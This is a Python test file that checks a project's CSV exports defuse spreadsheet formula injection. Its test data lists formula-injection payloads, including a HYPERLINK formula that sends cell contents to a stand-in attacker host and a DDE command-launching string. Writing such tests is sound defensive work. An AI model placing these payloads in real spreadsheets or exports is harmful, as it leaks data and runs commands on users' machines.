"""CSV downloads cannot carry formulas into a spreadsheet."""
import csv
import io

import polars as pl

from bigcats.ingest.publications import to_csv
from bigcats.spreadsheet import to_csv as safe_csv

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd", "-2+3",
           "\t=1", "\r=1"]


def test_every_formula_start_is_defused_and_numbers_stay_numbers():
    text = safe_csv(pl.DataFrame({"title": ATTACKS, "amount": [-5.0] * len(ATTACKS)}))
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert [r[0] for r in rows] == ["'" + a for a in ATTACKS]
    assert [r[1] for r in rows] == ["-5.0"] * len(ATTACKS)


def test_the_publication_csv_export_is_defused():
    pubs = pl.DataFrame({"publication_id": ["x"], "title_original": [ATTACKS[0]], "title_en": ["@SUM(1)"],
                         "authors": ["=cmd"], "year": [2020]})
    out = to_csv(pubs)
    assert "'=HYPERLINK" in out and "'@SUM" in out and "'=cmd" in out
    assert "\n=" not in out and ",=" not in out and ",@" not in out
